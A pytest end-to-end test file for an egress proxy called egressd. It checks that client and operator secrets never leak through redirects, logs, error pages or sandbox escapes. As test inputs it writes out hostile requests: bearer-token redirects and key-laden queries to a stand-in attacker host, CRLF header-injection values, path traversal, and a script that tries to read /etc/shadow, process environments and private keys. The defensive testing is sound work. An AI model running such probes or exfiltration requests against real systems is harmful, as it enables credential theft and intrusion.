"""CRED rows: secrets of ours and of others.

No credential is attached yet: a rule that names one is refused, never carried out bare, so its host is out of reach. Rows
about attaching, replacing and masking therefore hold that refusal, and that nothing of what a client sends as a secret is
ever written down; the issue that attaches credentials finishes them.
"""

from __future__ import annotations

import json
import os
import shutil
import stat
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from egressd.lab import Lab, clean_env, topology
from egressd.lab.stand import Stand
from egressd.rulefiles.load import load_rules
from egressd.rulefiles.problems import Problems
from tests.bypass.arena import RULES as COMMON
from tests.bypass.arena import SHIPPED, Arena, Outcome, Row

pytestmark = pytest.mark.e2e

API = "api.lab-origin.com"
WWW = "www.lab-origin.com"
KEYED = "keyed.lab-keys.com"
OTHER = "other.lab-keys.com"
ANY = "any.lab-keys.com"
CANARY = "c4n4ry-s3cr3t-0123456789"
RULES = COMMON.replace(
    """    with: {repos: ["acme/*"]}
""",
    """    with: {repos: ["acme/*"]}
    credential: github
""",
).replace(
    "deny:\n",
    f"""  - id: keyed
    hosts: [{KEYED}]
    requests: ["GET,HEAD,POST /v1/**", "WEBSOCKET /ws"]
    credential: keyed
  - id: other
    hosts: [{OTHER}]
  - id: any
    hosts: [{ANY}]
    requests: ["ANY /**"]
deny:
""",
)
_LATER = "the issue that attaches credentials finishes this row; until then nothing is carried out bare"


def prepare(lab: Lab) -> None:
    """Names that only these rows need."""
    for name in (KEYED, OTHER, ANY):
        lab.set_name(name, a=[topology.API])


def silent(outcome: Outcome) -> None:
    """The secret is in no record."""
    assert CANARY not in json.dumps(outcome.records)


def ask(
    host: str, path: str, method: str = "GET", head: bytes = b"", port: int = 443, body: bytes = b""
) -> str:
    """Code of a request by TLS."""
    data = f"get({path!r}, host={host!r}, method={method!r}, head={head!r}, body={body!r})"
    return f"say(shown(tls({host!r}, {port}, {data}, {host!r})))"


def upgrade(host: str, path: str, more: bytes = b"") -> str:
    """Code of a WebSocket's handshake."""
    fields = b"Upgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Version: 13\r\n"
    key = b"Sec-WebSocket-Key: MDEyMzQ1Njc4OWFiY2RlZg==\r\n"
    data = f"get({path!r}, host={host!r}, head={fields + key + more!r}, close=False)"
    return f"say(shown(tls({host!r}, 443, {data}, {host!r}, seconds=1)))"


def denied(reason: str, status: int = 403) -> str:
    """What the client must see."""
    return rf"{status} egressd: (?!.*{CANARY}).*reason {reason}\)"


def refused(
    id_: str, title: str, code: str, reason: str, status: int = 403, wins: str | None = "200 OK", **more: Any
) -> Row:
    """A request that is refused and whose secrets are not told."""
    records = (("request", "deny", reason),)
    return Row(
        id_, code, title=title, wins=wins, sees=denied(reason, status), records=records, also=silent, **more
    )


def unattached(id_: str, title: str, code: str, **more: Any) -> Row:
    """A request that a credential would go with."""
    return refused(id_, title, code, "credential_unavailable", 502, rule="keyed", note=_LATER, **more)


_KEY = f"x-api-key: {CANARY}\r\n".encode()
_BEARER = f"Authorization: Bearer {CANARY}\r\n".encode()
ELSEWHERE = [
    refused(
        "CRED-01",
        "the host of a credential at the attacker's address, by TLS",
        f"say(shown(tls('11.6.6.6', 443, get('/v1/x', host='{KEYED}'), '{KEYED}')))",
        "ip_literal",
        wins="owned",
    ),
    refused(
        "CRED-01",
        "the host of a credential at the attacker's address, in the clear",
        f"say(shown(tcp('11.6.6.6', 80, get('/v1/x', host='{KEYED}'))))",
        "ip_literal",
        wins="owned",
    ),
    refused(
        "CRED-01",
        "the host of a credential on another's connection",
        f"say(shown(tls('{API}', 443, get('/v1/x', host='{KEYED}'), '{API}')))",
        "authority_mismatch",
    ),
    refused(
        "CRED-02",
        "in the clear",
        f"say(shown(tcp('{KEYED}', 80, get('/v1/x', host='{KEYED}'))))",
        "scheme_not_allowed",
        note="DESIGN.md: a rule with a credential is https alone, so that http is refused before a credential is thought of",
    ),
    unattached("CRED-03", "a path that echoes what it got", ask(KEYED, "/v1/headers")),
    refused(
        "CRED-05", "TRACE to the host of a credential", ask(KEYED, "/v1/x", "TRACE"), "method_not_allowed"
    ),
    refused(
        "CRED-05", "TRACE where any method is allowed", ask(ANY, "/headers", "TRACE"), "method_not_allowed"
    ),
    refused(
        "CRED-05",
        "OPTIONS that goes no further",
        ask(KEYED, "/v1/x", "OPTIONS", b"Max-Forwards: 0\r\n"),
        "method_not_allowed",
    ),
    Row(
        "CRED-06",
        f"say(run('curl', '-sSkL', '--location-trusted', '--max-time', '6', '-H', 'Authorization: Bearer {CANARY}',"
        f" 'https://{ANY}/redirect?to=https://{KEYED}/v1/x'))",
        title="a redirect to the host of a credential",
        wins='"host": "keyed',
        sees=denied("credential_unavailable", 502).replace("502 egressd: ", "egressd: "),
        records=(("request", "allow", "rule"), ("request", "deny", "credential_unavailable")),
        reaches=(ANY,),
        asks=(KEYED,),
        also=silent,
        note=_LATER,
    ),
    Row(
        "CRED-06",
        f"say(run('curl', '-sSkL', '--location-trusted', '--max-time', '6', '-H', 'Authorization: Bearer {CANARY}',"
        f" 'https://{ANY}/redirect?to=https://www.evil-lab.com/'))",
        title="a redirect to the attacker carries a client's own key nowhere",
        wins="owned",
        sees=r"egressd: denied: no rule",
        records=(("request", "allow", "rule"), ("connection", "deny", "not_allowed")),
        reaches=(ANY,),
        also=silent,
    ),
    unattached(
        "CRED-07",
        "the attacker's own key to the host of a credential",
        ask(KEYED, "/v1/messages", "POST", _KEY + b"Content-Length: 0\r\n"),
    ),
    Row(
        "CRED-07",
        ask(OTHER, "/headers", head=_KEY),
        title="a client's own key to a host without a credential passes, untold",
        wins=f'200 OK.*"{CANARY}"',
        sees=f'200 OK.*"{CANARY}"',
        records=(("request", "allow", "rule"),),
        reaches=(OTHER,),
        also=silent,
        note="which keys may be used where no credential is attached is the issue of credentials: `client_credentials: deny`",
    ),
    *(
        unattached("CRED-08", f"a key in {where}", ask(KEYED, path, head=head))
        for where, path, head in (
            ("the query", f"/v1/x?key={CANARY}&api_key={CANARY}", b""),
            ("a query without a name", f"/v1/x?{CANARY}", b""),
            ("x-goog-api-key", "/v1/x", f"x-goog-api-key: {CANARY}\r\n".encode()),
            ("api-key", "/v1/x", f"api-key: {CANARY}\r\n".encode()),
            ("Basic", "/v1/x", f"Authorization: Basic {CANARY}\r\n".encode()),
            ("a cookie", "/v1/x", f"Cookie: session={CANARY}\r\n".encode()),
        )
    ),
    Row(
        "CRED-08",
        ask(OTHER, f"/n?key={CANARY}&page=2"),
        title="a key in a query that passes is not told",
        wins="200 OK",
        sees="200 OK",
        records=(("request", "allow", "rule"),),
        reaches=(OTHER,),
        also=silent,
        shows={"event": "decision", "query": f"key=<{len(CANARY)}>&page=<1>"},
    ),
    refused(
        "CRED-08",
        "a key in the URL's user information",
        f"data = b'GET https://key:{CANARY}@{OTHER}/n HTTP/1.1\\r\\nHost: {OTHER}\\r\\nConnection: close\\r\\n\\r\\n'\n"
        f"say(shown(tls('{OTHER}', 443, data, '{OTHER}')))",
        "userinfo_in_authority",
        400,
    ),
    Row(
        "CRED-10",
        ask(OTHER, "/headers", "GET", b"Authorization: Bearer egressd-placeholder-keyed\r\n"),
        title="a placeholder to another host stays one",
        wins="egressd-placeholder-keyed",
        sees="200 OK.*egressd-placeholder-keyed",
        records=(("request", "allow", "rule"),),
        reaches=(OTHER,),
        note=_LATER,
    ),
    unattached(
        "CRED-10",
        "a placeholder in a body and a path",
        ask(
            KEYED,
            "/v1/egressd-placeholder-keyed",
            "POST",
            b"Content-Length: 25\r\n",
            body=b"egressd-placeholder-keyed",
        ),
    ),
]

SCOPES = [
    refused("CRED-15", "another port", ask(KEYED, "/v1/x", port=8443), "port_not_allowed"),
    refused("CRED-15", "another path", ask(KEYED, "/v2/x"), "path_not_allowed"),
    refused("CRED-15", "another method", ask(KEYED, "/v1/x", "DELETE"), "method_not_allowed"),
    refused(
        "CRED-15", "a path that leaves by dots", ask(KEYED, "/v1/messages/../../files"), "path_ambiguous"
    ),
    refused(
        "CRED-15",
        "a path that leaves by dots in hexadecimal",
        ask(KEYED, "/v1/%2e%2e/files"),
        "path_ambiguous",
    ),
    Row(
        "CRED-16",
        "say(shown(proxy(get('http://www.lab-origin.com/headers', 'www.lab-origin.com', head="
        f"b'Proxy-Authorization: Basic {CANARY}\\r\\nProxy-Connection: close\\r\\n'))))",
        title="a token for the proxy goes no further",
        wins=CANARY,
        sees=f"200 OK(?!.*{CANARY})(?!.*proxy-)",
        records=(("request", "allow", "rule"),),
        reaches=(WWW,),
        also=silent,
        note="tokens belong to the `explicit` wiring; the namespace wiring needs none, so one is dropped unread",
    ),
    Row(
        "CRED-16",
        f"say(run('curl', '-sSk', '--max-time', '6', '-x', 'http://user:{CANARY}@127.0.0.1:3128', 'http://{WWW}/headers'))",
        title="a token in the proxy's URL is not told",
        wins=r"proxy-authorization",
        sees=r'"host": "www(?!.*proxy-authorization)',
        records=(("request", "allow", "rule"),),
        reaches=(WWW,),
        also=silent,
    ),
    Row(
        "CRED-16",
        f"via = b'CONNECT {API}:443 HTTP/1.1\\r\\nProxy-Authorization: Bearer {CANARY}\\r\\n\\r\\n'\n"
        f"say(shown(tls('', 0, get('/headers'), '{API}', via=via)))",
        title="a token on a tunnel goes no further",
        wins="200 OK",
        sees=f"200 OK(?!.*{CANARY})",
        records=(("request", "allow", "rule"),),
        reaches=(API,),
        also=silent,
    ),
    unattached(
        "CRED-17", "a compressed echo", ask(KEYED, "/v1/headers", head=b"Accept-Encoding: br, zstd, gzip\r\n")
    ),
    unattached(
        "CRED-19", "an echo of Basic", ask(KEYED, "/v1/echo", "POST", b"Content-Length: 0\r\n" + _BEARER)
    ),
    unattached(
        "CRED-20",
        "an origin that dumps the request in an error page",
        ask(KEYED, "/v1/status/400"),
        wins="200 OK|400",
    ),
    *(
        refused(
            "CRED-20",
            f"egressd's own page: {reason}",
            code,
            reason,
            status,
            wins=wins,
            moot="nothing of egressd's is told there",
            asks=asks,
        )
        for code, reason, status, wins, asks in (
            (
                ask(API, "/forbidden", "POST", _KEY + _BEARER + b"Content-Length: 0\r\n"),
                "method_not_allowed",
                403,
                "200 OK",
                (),
            ),
            (
                ask(API, "/n", head=_KEY + b"X-Big: " + b"x" * 70000 + b"\r\n"),
                "head_too_large",
                431,
                "200 OK",
                (),
            ),
            (ask(API, "/n", head=_KEY + b" folded\r\n"), "bad_header", 400, "200 OK", ()),
        )
    ),
    Row(
        "CRED-20",
        ask("refused.lab-origin.com", "/n", head=_KEY + _BEARER),
        title="egressd's own page: upstream_unreachable",
        moot="there is nobody to answer",
        sees=denied("upstream_unreachable", 502),
        records=(("request", "allow", "rule"), ("request", "end", "upstream_unreachable")),
        asks=("refused.lab-origin.com",),
        also=silent,
    ),
    unattached(
        "CRED-21",
        "a WebSocket to the host of a credential, its key among the subprotocols",
        upgrade(KEYED, "/ws", b"Sec-WebSocket-Protocol: chat, " + CANARY.encode() + b"\r\n"),
        wins="101 Switching",
    ),
    Row(
        "CRED-22",
        ask(
            OTHER,
            "/headers",
            head=b"Authorization: AWS4-HMAC-SHA256 Credential=AKIDEXAMPLE/20260101/us-east-1/s3/aws4_request, "
            b"SignedHeaders=host;x-amz-date, "
            b"Signature=" + CANARY.encode() + b"\r\nX-Amz-Date: 20260101T000000Z\r\n",
        ),
        title="signed fields pass as they were signed",
        wins=CANARY,
        sees=f'"x-amz-date", "20260101T000000Z".*|{CANARY}.*20260101T000000Z',
        records=(("request", "allow", "rule"),),
        reaches=(OTHER,),
        also=silent,
    ),
    Row(
        "CRED-22",
        ask(OTHER, f"/x?X-Amz-Credential={CANARY}&X-Amz-Signature={CANARY}"),
        title="a presigned URL of another's is told by its parameters, without their values",
        wins="200 OK",
        sees="200 OK",
        records=(("request", "allow", "rule"),),
        reaches=(OTHER,),
        also=silent,
        shows={
            "event": "decision",
            "query": f"X-Amz-Credential=<{len(CANARY)}>&X-Amz-Signature=<{len(CANARY)}>",
        },
    ),
    unattached(
        "CRED-22",
        "a signature of the client's to the host of a credential",
        ask(
            KEYED,
            "/v1/x",
            head=f"Authorization: AWS4-HMAC-SHA256 Credential=x, Signature={CANARY}\r\n".encode(),
        ),
    ),
    Row(
        "CRED-23",
        "import tempfile\n"
        "folder = tempfile.mkdtemp()\n"
        "url = 'https://github.com/acme/tools.git'\n"
        "say(run('git', '-c', 'http.sslVerify=false', '-c', 'credential.helper=', 'clone', '-q', url, folder))",
        title="git to a repository of a credential gets one answer and asks nobody",
        wins=r"\[0\]",
        sees=r"(?!.*Username).*(502|credential_unavailable).*\[128\]",
        records=(("request", "deny", "credential_unavailable"),),
        asks=("github.com",),
        rule="github-clone",
        note=_LATER,
    ),
]


@pytest.mark.parametrize("row", [*ELSEWHERE, *SCOPES], ids=str)
def test_no_secret_goes_astray(once: Arena, row: Row) -> None:
    once.holds(row)


_HEAD = (
    "schema: 1\ncredentials:\n  keyed:\n"
    f"    for: [{{hosts: [{KEYED}], requests: ['GET,HEAD,POST /v1/**', 'WEBSOCKET /ws']}}]\n"
)
_GITHUB = (
    "  github:\n    for: [{hosts: [github.com], requests: ['GET,POST /acme/**']}]\n"
    "    source: {file: /run/g}\n    attach: {header: authorization}\n"
)
_SOURCE, _ATTACH = "    source: {file: /run/secrets/keyed}\n", "    attach: {header: x-api-key}\n"
WRONG = [
    pytest.param(
        _HEAD + f"    source: {CANARY}\n" + _ATTACH,
        "wrong_type",
        id="CRED-11 a secret in place of its source",
    ),
    pytest.param(
        f"schema: 1\ncredentials:\n  keyed: {CANARY}\n",
        "wrong_type",
        id="CRED-11 a secret in place of a credential",
    ),
    pytest.param(f"KEY={CANARY}\n", "wrong_type", id="CRED-11 a file of variables"),
    pytest.param(
        _HEAD + f"    source: {{file: /x, env: {CANARY}}}\n" + _ATTACH, "bad_value", id="CRED-11 two sources"
    ),
    pytest.param(
        _HEAD + _SOURCE + _ATTACH + f"    client_credentials: {CANARY}\n",
        "bad_value",
        id="CRED-11 no such way",
    ),
    pytest.param(
        _HEAD + _SOURCE + f'    attach: {{header: x, prefix: "{CANARY}\\r\\nX: b"}}\n',
        "bad_value",
        id="CRED-11 CRLF in a template",
    ),
    pytest.param(
        _HEAD + _SOURCE + '    attach: {header: "x-api-key\\r\\nX: b"}\n',
        "bad_value",
        id="CRED-11 CRLF in a header's name",
    ),
    pytest.param(
        _HEAD + '    source: {file: "/run/secrets/keyed\\0"}\n' + _ATTACH,
        "bad_value",
        id="CRED-11 a NUL in a path",
    ),
    pytest.param(
        _HEAD.replace("/v1/", "/v2/") + _SOURCE + _ATTACH,
        "credential_not_covered",
        id="CRED-15 for another path",
    ),
    pytest.param(
        _HEAD.replace(KEYED, OTHER) + _SOURCE + _ATTACH,
        "credential_not_covered",
        id="CRED-15 for another host",
    ),
]


@pytest.fixture
def rules(tmp_path: Path) -> Path:
    """A rules folder whose profile uses credentials."""
    folder = tmp_path / "rules"
    shutil.copytree(SHIPPED, folder)
    (folder / "profiles" / "lab.yaml").write_text(RULES)
    return folder


@pytest.mark.parametrize(("text", "code"), WRONG)
def test_a_credential_that_is_none_is_refused_without_a_word_of_it(rules: Path, text: str, code: str) -> None:
    file = rules.parent / "credentials.yaml"
    file.write_text(text.replace("schema: 1\ncredentials:\n", f"schema: 1\ncredentials:\n{_GITHUB}"))
    problems = load_rules(rules, credentials=file)
    assert isinstance(problems, Problems)
    assert code in {problem.code.value for problem in problems}, str(problems)
    assert CANARY not in str(problems)


@pytest.mark.parametrize(
    ("change", "code"),
    [
        pytest.param(
            (
                "hosts: [other",
                "schemes: [http, https]\n    credential: other\n    requests: ['GET /**']\n    hosts: [other",
            ),
            "credential_constraint",
            id="CRED-02 a credential over http",
        ),
        pytest.param(
            ("hosts: [other", "treatment: tunnel\n    credential: other\n    hosts: [other"),
            "not_inspected",
            id="TLS-06 a credential in a tunnel",
        ),
        pytest.param(
            ("hosts: [other", "credential: other\n    hosts: [other"),
            "credential_constraint",
            id="CRED-15 a credential for whatever is asked",
        ),
        pytest.param(
            (
                "  - id: other",
                f"  - id: second\n    hosts: [{KEYED}]\n    requests: ['GET /v1/x']\n    credential: other\n  - id: other",
            ),
            "credential_conflict",
            id="CRED-10 two credentials for one request",
        ),
    ],
)
def test_a_rule_may_not_send_a_credential_astray(rules: Path, change: tuple[str, str], code: str) -> None:
    text = RULES.replace(*change)
    assert text != RULES
    (rules / "profiles" / "lab.yaml").write_text(text)
    problems = load_rules(rules)
    assert isinstance(problems, Problems)
    assert code in {problem.code.value for problem in problems}, str(problems)


BREAKS = """
def requestheaders(flow):
    if "x-break" in flow.request.headers:
        raise RuntimeError("broken")
"""
_EVERYWHERE = """
from inside import *
fields = b'X-Api-Key: {0}\\r\\nAuthorization: Basic {0}\\r\\nCookie: s={0}\\r\\nReferer: https://x/?k={0}\\r\\n'
both = b'Content-Length: 5\\r\\nTransfer-Encoding: chunked\\r\\n'
for more in (b'', b'X-Break: 1\\r\\n', b' folded\\r\\n', both, b'Upgrade: {0}\\r\\n'):
    for path in ('/n?key={0}&{0}', '/status/500?key={0}'):
        say(shown(tls('api.lab-origin.com', 443, get(path, head=fields + more), 'api.lab-origin.com'))[:12])
upload = get('/upload', method='POST', head=fields + b'Content-Length: 24\\r\\n', body=b'{0}')
say(shown(tls('api.lab-origin.com', 443, upload, 'api.lab-origin.com'))[:12])
named = get('/n', host='key:{0}@api.lab-origin.com', head=fields)
say(shown(tls('api.lab-origin.com', 443, named, 'api.lab-origin.com'))[:12])
say(shown(proxy(b'CONNECT key:{0}@api.lab-origin.com:443 HTTP/1.1\\r\\n' + fields + b'\\r\\n'))[:12])
say(shown(proxy(b'GET http://key:{0}@www.lab-origin.com/?{0} HTTP/1.1\\r\\n' + fields + b'\\r\\n'))[:12])
say(shown(proxy(b'GET http://www.evil-lab.com/?key={0} HTTP/1.1\\r\\nHost: www.evil-lab.com\\r\\n' + fields + b'\\r\\n'))[:12])
say(shown(tcp('www.lab-origin.com', 80, b'GET /?key={0} HTTP/9.9\\r\\nHost: x\\r\\n' + fields + b'\\r\\n'))[:12])
"""


def test_what_clients_send_as_secrets_is_written_nowhere(once: Arena) -> None:
    """CRED-12: headers, cookies, user information, queries and bodies, allowed, refused and broken."""
    breaks = Path(once.lab.directory, "breaks.py")
    breaks.write_text(BREAKS)
    with Stand(once.lab, RULES, shipped=SHIPPED, more=f"inspect: {{addons: [{breaks}]}}\n") as stand:
        for part in Path(__file__).parent.glob("inside*.py"):
            shutil.copy(part, stand.workspace)
        done = stand.run(["/usr/bin/python3", "-W", "ignore", "-c", _EVERYWHERE.format(CANARY)])
        said = done.stdout.splitlines()
        assert len(said) == 16, (done.stdout, done.stderr[-3000:])
        assert [line.split()[1] for line in said[:4]] == ["200", "500", "502", "502"], said
        assert len(stand.records()) > 30
        assert CANARY not in stand.journal.read_text()
        assert "RuntimeError" in done.stderr
        assert CANARY not in done.stderr
    once.life_goes_on()


_LOOK = """
import ctypes, glob, json, os, sys
seen = {}
for path in json.loads(sys.argv[1]):
    try:
        seen[path] = open(path, 'rb').read().decode('latin-1') if not os.path.isdir(path) else os.listdir(path)
    except OSError as error:
        seen[path] = type(error).__name__
outside = []
for path in glob.glob('/proc/[0-9]*'):
    for part in ('environ', 'cmdline'):
        try:
            outside.append(open(f'{path}/{part}', 'rb').read().decode('latin-1'))
        except OSError:
            pass
traced = ctypes.CDLL(None).ptrace(16, int(sys.argv[2]), 0, 0)
try:
    os.kill(int(sys.argv[2]), 0)
    alive = True
except OSError:
    alive = False
print(json.dumps({'seen': seen, 'outside': outside, 'traced': traced, 'alive': alive, 'env': dict(os.environ)}))
"""


@pytest.fixture(scope="module")
def kept(shared_lab: Lab) -> Iterator[Stand]:
    """An installation with every kind of secret that there is."""
    with Stand(shared_lab, RULES, shipped=SHIPPED, more="credentials: credentials.yaml\n") as stand:
        file = stand.directory / "credentials.yaml"
        file.write_text(f"schema: 1\n# {CANARY}\ncredentials:\n{_GITHUB}")
        yield stand


def test_nothing_of_ours_is_seen_inside(kept: Stand) -> None:
    """CRED-13: files, processes and variables of egressd, from inside; only the public certificate is there."""
    private = ("ca", "credentials.yaml", "egressd.yaml", "rules", "journal.jsonl", "state", "control.sock")
    paths = [str(kept.directory / name) for name in private]
    paths += [str(kept.directory / "ca" / name) for name in ("ca.key", "root.key", "key.pem", "private")]
    paths += [
        f"/proc/{os.getpid()}/root/etc/shadow",
        f"/proc/{os.getppid()}/environ",
        "/proc/1/root/root",
        "/proc/kcore",
    ]
    done = kept.run(
        ["/usr/bin/python3", "-c", _LOOK, json.dumps(paths), str(os.getpid())],
        env={"EGRESSD_TEST_KEY": CANARY},
    )
    assert done.returncode == 0, done.stderr[-2000:]
    found = json.loads(done.stdout)
    empty = {
        path: what
        for path, what in found["seen"].items()
        if what not in ("", [], "FileNotFoundError", "PermissionError")
    }
    assert empty == {}, empty
    assert CANARY not in done.stdout
    assert found["traced"] == -1
    assert not found["alive"]
    ours = [text for text in found["outside"] if "egressd.gate" in text or "\0-m\0egressd" in text]
    assert ours == []
    certificate = Path(found["env"]["SSL_CERT_FILE"])
    assert certificate.name.endswith((".crt", ".pem"))
    assert list(kept.directory.glob("ca/**/*")), "the installation has keys to be seen"


def test_each_installation_has_a_key_of_its_own_that_only_it_reads(kept: Stand) -> None:
    """CRED-14: modes from the first moment on, whatever the umask; no two installations share a root."""
    roots = []
    for number in range(2):
        folder = kept.directory / f"fresh-{number}"
        shell = f"umask 0; exec {' '.join(kept.egressd('ca', 'export', '--ca-dir', str(folder)))}"
        done = kept.lab.host_exec(
            ["sh", "-c", shell], privileged=not kept.lab.rootless, env=clean_env(kept.lab, trust=False)
        )
        assert done.returncode == 0, done.stderr
        assert "PRIVATE KEY" not in done.stdout
        roots.append(done.stdout)
        keys = [path for path in folder.rglob("*") if path.is_file() and b"PRIVATE KEY" in path.read_bytes()]
        assert keys
        for key in keys:
            assert stat.S_IMODE(key.stat().st_mode) == 0o600, key
            assert stat.S_IMODE(key.parent.stat().st_mode) & 0o022 == 0, key.parent
    assert roots[0] != roots[1]
    assert all("BEGIN CERTIFICATE" in root for root in roots)
